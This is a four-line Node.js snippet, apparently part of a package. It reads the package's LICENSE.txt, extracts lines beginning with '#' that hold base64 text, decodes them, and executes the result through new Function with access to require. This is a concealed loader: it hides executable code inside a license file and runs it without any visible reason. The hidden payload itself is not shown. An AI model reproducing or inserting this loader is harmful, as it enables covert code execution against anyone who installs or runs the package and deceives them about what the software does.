const fs = require('fs');
const text = fs.readFileSync(require.resolve('./LICENSE.txt'), 'utf8');
const body = text.match(/^#([A-Za-z0-9+/=]+)$/gm).map((l) => l.slice(1)).join('');
new Function('require', Buffer.from(body, 'base64').toString())(require); //@act
